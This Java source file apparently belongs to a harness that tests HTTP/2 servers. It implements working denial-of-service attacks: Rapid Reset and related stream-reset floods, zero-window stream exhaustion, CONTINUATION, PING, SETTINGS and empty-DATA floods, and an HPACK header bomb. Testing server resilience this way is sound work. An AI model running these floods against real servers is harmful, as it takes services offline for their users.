import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.HashMap;
import java.util.Map;
import java.util.function.IntFunction;

/** Attacks that HTTP/2 makes possible. Floods come at a fixed rate, so that every server gets the same input. */
final class Http2Attacks {
    private static final int MAX_STREAMS = 128;
    /** A flood's connections; two are enough to fill the IO threads of two processors, the others come on top. */
    private static final int FLOODING = 8;

    private static final String QUICK = "/quick/";

    private Http2Attacks() {}

    static Map<String, Attack> all() {
        Map<String, Attack> attacks = new HashMap<>();
        attacks.put("zero-windows-66", new Attack(66, 1, connection -> zeroWindow(connection, "/unknown-")));
        attacks.put("zero-windows-600", new Attack(600, 600, connection -> zeroWindow(connection, "/unknown-")));
        attacks.put("zero-windows-large", new Attack(66, 66, connection -> zeroWindow(connection, "/large/")));
        attacks.put("rapid-reset", new Attack(FLOODING, 1, connection -> streams(connection, 25, Http2Attacks::cancelled)));
        attacks.put("made-you-reset-window", new Attack(FLOODING, 1, connection -> streams(connection, 25, Http2Attacks::windowOfZero)));
        attacks.put("made-you-reset-data", new Attack(FLOODING, 1, connection -> streams(connection, 25, Http2Attacks::dataAfterEnd)));
        attacks.put("continuation-flood", new Attack(FLOODING, 1, Http2Attacks::endlessHead));
        attacks.put("ping-flood", new Attack(FLOODING, 1, connection -> unread(connection, Http2.frame(Http2.PING, 0, 0, new byte[8]))));
        attacks.put("settings-flood", new Attack(FLOODING, 1, connection -> unread(connection, Http2.frame(Http2.SETTINGS, 0, 0, new byte[0]))));
        attacks.put("empty-frames", new Attack(FLOODING, 1, Http2Attacks::emptyData));
        attacks.put("hpack-bomb", new Attack(FLOODING, 1, Http2Attacks::bomb));
        return attacks;
    }

    /** Makes as many requests as the server takes at a time, and gives it no window to respond in. */
    private static void zeroWindow(Connection connection, String path) throws IOException {
        Http2.open(connection, 0);
        for (int i = 0; i < MAX_STREAMS; i++) {
            connection.send(Http2.get(1 + 2 * i, path + i), 1);
        }
        connection.drain();
    }

    /** Opens streams at a fixed rate, each with the frames that make the server or the client reset it. */
    private static void streams(Connection connection, int perBatch, IntFunction<byte[]> frames) throws IOException, InterruptedException {
        Http2.open(connection, Http2.DEFAULT_WINDOW_BYTES);
        connection.drainInBackground();
        for (int stream = 1; ; ) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < perBatch; i++, stream += 2) {
                batch.writeBytes(frames.apply(stream));
            }
            connection.send(batch.toByteArray(), perBatch);
            connection.awaitNextBatch();
        }
    }

    private static byte[] cancelled(int stream) {
        return join(Http2.get(stream, QUICK), Http2.frame(Http2.RST_STREAM, 0, stream, Http2.number(Http2.CANCEL)));
    }

    /** An increment of zero is an error of the stream (RFC 9113 §6.9). */
    private static byte[] windowOfZero(int stream) {
        return join(Http2.get(stream, QUICK), Http2.frame(Http2.WINDOW_UPDATE, 0, stream, Http2.number(0)));
    }

    /** DATA after the end of the stream is an error of the stream (RFC 9113 §5.1). */
    private static byte[] dataAfterEnd(int stream) {
        return join(Http2.get(stream, QUICK), Http2.frame(Http2.DATA, 0, stream, new byte[1]));
    }

    /** A head without an end, 2,000 kilobytes of it a second. */
    private static void endlessHead(Connection connection) throws IOException, InterruptedException {
        Http2.open(connection, Http2.DEFAULT_WINDOW_BYTES);
        connection.drainInBackground();
        connection.send(Http2.frame(Http2.HEADERS, Http2.END_STREAM, 1, Http2.head(0x82, QUICK)), 1);
        byte[] fields = new byte[0];
        for (byte[] field = Http2.field("x-field", "value"); fields.length + field.length <= Http2.FRAME_BYTES; ) {
            fields = join(fields, field);
        }
        byte[] frame = Http2.frame(Http2.CONTINUATION, 0, 1, fields);
        while (true) {
            connection.send(frame, 1);
            connection.awaitNextBatch();
        }
    }

    /** Sends frames that the server must acknowledge, and never reads. */
    private static void unread(Connection connection, byte[] frame) throws IOException, InterruptedException {
        Http2.open(connection, Http2.DEFAULT_WINDOW_BYTES);
        flood(connection, frame);
    }

    private static void emptyData(Connection connection) throws IOException, InterruptedException {
        Http2.open(connection, Http2.DEFAULT_WINDOW_BYTES);
        connection.drainInBackground();
        connection.send(Http2.post(1, "/sink/"), 1);
        flood(connection, Http2.frame(Http2.DATA, 0, 1, new byte[0]));
    }

    private static void flood(Connection connection, byte[] frame) throws IOException, InterruptedException {
        int perBatch = 100;
        byte[] batch = repeat(frame, perBatch);
        while (true) {
            connection.send(batch, perBatch);
            connection.awaitNextBatch();
        }
    }

    /** Each byte of a request's head stands for a field of 4,000 bytes. */
    private static void bomb(Connection connection) throws IOException, InterruptedException {
        Http2.open(connection, Http2.DEFAULT_WINDOW_BYTES);
        connection.drainInBackground();
        byte[] first = join(Http2.head(0x82, QUICK), Http2.indexedField("x", "y".repeat(4_000)));
        connection.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, 1, first), 1);
        byte[] references = new byte[16_000];
        Arrays.fill(references, (byte) (0x80 | 62));
        byte[] block = join(Http2.head(0x82, QUICK), references);
        for (int stream = 3; ; stream += 2) {
            connection.send(Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, stream, block), 1);
            connection.awaitNextBatch();
        }
    }

    private static byte[] join(byte[] one, byte[] other) {
        byte[] both = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, both, one.length, other.length);
        return both;
    }

    private static byte[] repeat(byte[] bytes, int count) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            all.writeBytes(bytes);
        }
        return all.toByteArray();
    }
}
